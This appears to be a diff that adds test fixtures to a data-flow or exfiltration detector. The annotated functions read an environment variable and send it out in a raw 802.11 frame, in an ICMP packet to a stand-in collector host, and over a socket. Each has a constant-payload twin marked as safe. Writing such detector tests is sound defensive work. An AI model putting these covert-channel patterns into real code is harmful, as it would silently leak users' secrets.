@@ -8,7 +8,8 @@ import ssl
 import telnetlib
 
 import requests
-from scapy.all import IP, Raw, send, sniff
+from impacket import ImpactPacket
+from scapy.all import Dot11, IP, Raw, send, sniff
 
 U = "https://collector.example/u"
 
@@ -272,3 +273,38 @@ def packet_sniffed():
 def packet_constants():
     send(IP(dst="192.0.2.7") / Raw(b"ping"))  #~ ok
     requests.post(U, data={"quiet": sniff(count=1) == []})  #~ ok
+
+
+def packet_filled():
+    packet = Dot11(addr1="00:00:00:00:00:42")
+    packet.add_payload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f90
+    send(packet)  #~ sink(egress.socket) f90, finding(traced) f90
+
+
+def packet_filled_constant():
+    packet = Dot11(addr1="00:00:00:00:00:42")
+    packet.add_payload(b"ping")  #~ ok
+    send(packet)  #~ ok
+
+
+def echo(s: socket.socket):
+    ip = ImpactPacket.IP()
+    icmp = ImpactPacket.ICMP()
+    icmp.contains(ImpactPacket.Data(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f91
+    ip.contains(icmp)
+    s.sendto(ip.get_packet(), ("icmp.collector.example", 0))  #~ sink(egress.socket) f91, finding(traced) f91
+
+
+def echo_constant(s: socket.socket):
+    ip = ImpactPacket.IP()  #~ ok
+    ip.contains(ImpactPacket.Data(b"ping"))  #~ ok
+    s.sendto(ip.get_packet(), ("icmp.collector.example", 0))  #~ ok
+
+
+def printed(s: socket.socket):
+    out = s.makefile("w")  #~ sink(egress.socket) f92, finding(traced) f92
+    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f92
+
+
+def printed_constant(s: socket.socket):
+    print("ping", file=s.makefile("w"))  #~ ok
